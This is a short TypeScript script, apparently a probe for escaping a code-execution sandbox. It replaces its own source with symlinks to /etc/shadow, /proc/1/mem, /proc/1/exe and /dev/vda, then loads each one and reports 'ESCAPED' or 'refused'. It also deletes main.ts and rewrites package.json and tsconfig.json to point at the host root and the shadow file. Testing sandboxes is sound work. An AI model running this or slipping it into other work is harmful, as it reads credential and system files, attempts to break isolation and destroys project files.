import * as fs from 'node:fs';

// Its own source, replaced while it runs by links to what it may not read.
namespace Attack {
  export enum Target {
    Shadow = '/etc/shadow',
    Memory = '/proc/1/mem',
    Agent = '/proc/1/exe',
    Disk = '/dev/vda',
  }
  export const links = (): string[] =>
    Object.entries(Target).map(([name, target]: [string, string]) => {
      fs.rmSync(`${name}.ts`, { force: true });
      fs.symlinkSync(target, `${name}.ts`);
      try {
        require(`./${name}.ts`);
        return `${name} ESCAPED`;
      } catch {
        return `${name} refused`;
      }
    });
}
console.log(Attack.links().join('\n'));
fs.rmSync('main.ts');
fs.symlinkSync('/proc/self/fd/0', 'main.ts');
fs.symlinkSync('.', 'node_modules');
fs.writeFileSync('package.json', '{"type":"module","main":"/proc/1/root","exports":"../../../.."}');
fs.writeFileSync('tsconfig.json', '{"extends":"/etc/shadow","compilerOptions":{"baseUrl":"/proc/1/root"}}');
try {
  require('main.ts');
} catch (error: unknown) {
  console.log('no more source', error instanceof Error);
}
